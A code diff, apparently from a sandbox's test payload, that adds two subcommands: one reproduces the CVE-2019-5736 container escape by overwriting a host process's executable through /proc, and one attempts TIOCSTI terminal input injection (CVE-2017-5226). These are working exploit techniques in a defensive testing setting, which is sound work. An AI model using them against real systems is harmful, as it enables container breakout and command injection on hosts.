@@ -26,6 +26,8 @@ extern "C" fn entry() {
             std::fs::write(file, open).unwrap();
         }
         ["spy", stop] => spy(stop),
+        ["overwrite", stop] => overwrite(stop),
+        ["inject"] => inject(),
         ["notify", message] => notify(message),
         ["syscall", ref numbers @ ..] => println!("{}", call(numbers)),
         _ => panic!("payload: {rest:?}"),
@@ -77,6 +79,45 @@ fn spy(stop: &str) {
         }
     }
     println!("done");
+}
+
+/// Until the file `stop` is there, opens the executable of every process that turns up, and writes to it
+/// when it is no longer being executed (CVE-2019-5736).
+fn overwrite(stop: &str) {
+    println!("watching");
+    while !std::path::Path::new(stop).exists() {
+        for pid in std::fs::read_dir("/proc").unwrap().flatten() {
+            let exe = pid.path().join("exe");
+            let is_ours =
+                |target: std::path::PathBuf| target.starts_with("/bin") || target == std::path::Path::new(PATH);
+            if std::fs::read_link(&exe).map_or(true, is_ours) {
+                continue;
+            }
+            let Ok(file) = std::fs::File::open(&exe) else { continue };
+            println!("opened {}", exe.display());
+            let again = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&file));
+            for _ in 0..100 {
+                if let Ok(mut file) = std::fs::File::options().write(true).open(&again) {
+                    println!("written: {:?}", std::io::Write::write_all(&mut file, b"#!/bin/false\n"));
+                    break;
+                }
+                std::thread::sleep(std::time::Duration::from_micros(100));
+            }
+        }
+    }
+    println!("done");
+}
+
+/// Types a character into the terminal that standard input is (CVE-2017-5226).
+fn inject() {
+    for (name, request, argument) in
+        [("TIOCSCTTY", libc::TIOCSCTTY, std::ptr::null()), ("TIOCSTI", libc::TIOCSTI, c"x".as_ptr())]
+    {
+        #[allow(unsafe_code)]
+        // SAFETY: the one takes a number, 0, and the other reads one byte of a string.
+        let result = nix::errno::Errno::result(unsafe { libc::ioctl(0, request, argument) });
+        println!("{name} {}", result.map_or_else(|errno| format!("{errno:?}"), |_| "done".to_owned()));
+    }
 }
 
 /// Makes a system call with numbers for arguments: its result, or the name of the error.
